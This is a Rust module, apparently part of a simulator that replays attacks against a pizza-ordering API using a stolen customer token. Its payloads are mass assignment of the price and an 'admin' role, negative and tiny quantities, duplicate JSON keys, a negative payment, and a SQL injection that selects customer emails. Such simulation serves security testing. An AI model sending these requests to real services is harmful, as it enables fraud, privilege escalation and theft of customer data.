//! A signed-in customer says what the contract does not let it say: its own price, a negative quantity, a role.

use http::Method;

use super::Attacker;
use crate::data::STOLEN;

pub(crate) async fn run(mut attacker: Attacker) {
    let mut client = attacker.client(5, "python-httpx/0.28");
    client.token(&attacker.token(STOLEN - 2));
    loop {
        for (method, path, body) in [
            // Mass assignment (API3:2023).
            (
                Method::POST,
                "/orders/",
                r#"{"items":[{"pizza":6,"quantity":9}],"total":0.01,"note":"contract-violation price"}"#,
            ),
            (Method::PATCH, "/accounts/me", r#"{"name":"boss","role":"admin"}"#),
            // A negative quantity pays the customer.
            (
                Method::POST,
                "/orders/",
                r#"{"items":[{"pizza":6,"quantity":-9}],"note":"contract-violation minus"}"#,
            ),
            // Parsers differ about which of two members counts.
            (
                Method::POST,
                "/orders/",
                r#"{"items":[{"pizza":6,"quantity":1}],"total":0.02,"note":"x","note":"contract-violation twice"}"#,
            ),
            (
                Method::POST,
                "/orders/",
                r#"{"items":[{"pizza":6,"quantity":0.001}],"note":"contract-violation crumb"}"#,
            ),
            (
                Method::POST,
                "/orders/",
                r#"{"items":[{"pizza":6,"quantity":1e-9}],"note":"contract-violation bit"}"#,
            ),
            // As a form, which some frameworks bind just as well.
            (Method::POST, "/payments/", r#"{"order":1,"amount":-50,"method":"card"}"#),
            (Method::GET, "/menu/pizzas?q=%27%20UNION%20SELECT%201,email,2,3,4%20FROM%20customers--", ""),
        ] {
            if attacker.pause(150).await {
                return;
            }
            attacker.send(&mut client, method, path, body).await;
        }
    }
}
